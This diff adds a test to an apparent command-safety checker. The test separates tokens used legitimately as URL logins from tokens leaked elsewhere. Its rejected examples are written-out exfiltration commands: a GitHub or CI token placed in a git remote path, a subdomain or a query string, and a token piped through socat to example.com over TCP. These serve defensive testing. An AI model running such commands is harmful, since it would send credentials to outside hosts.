@@ -91,6 +91,25 @@ test('a key goes to its own service in the address or in a login, and to nobody 
   );
 });
 
+test('a token as the login in an address is a credential, elsewhere in it a leak', () => {
+  passes(
+    [
+      'git remote set-url origin "https://x-access-token:$GH_TOKEN@github.com/shop/api.git"',
+      'git clone https://$GITHUB_TOKEN@github.com/shop/api',
+      'curl -O https://ci:$CI_TOKEN@files.example.com/a.tgz',
+      'wget https://ci:$CI_TOKEN@files.example.com/a.tgz',
+      'printf "%s" "$SHOP_TOKEN" | socat - UNIX-CONNECT:/tmp/shop.sock',
+    ],
+    [
+      'git remote add drop "https://example.com/$GH_TOKEN"',
+      'git remote add drop "https://$GH_TOKEN.example.com/x"',
+      'curl "https://ci@example.com/?t=$CI_TOKEN"',
+      'wget "https://ci:$CI_TOKEN@example.com/$CI_TOKEN"',
+      'printf "%s" "$SHOP_TOKEN" | socat - TCP:example.com:80',
+    ],
+  );
+});
+
 test('containers get graphics and sound, not disks; a registry on this machine is for tests', () => {
   passes(
     ['docker run --device /dev/dri --device=/dev/snd:/dev/snd app', 'docker push localhost:5000/shop:dev'],
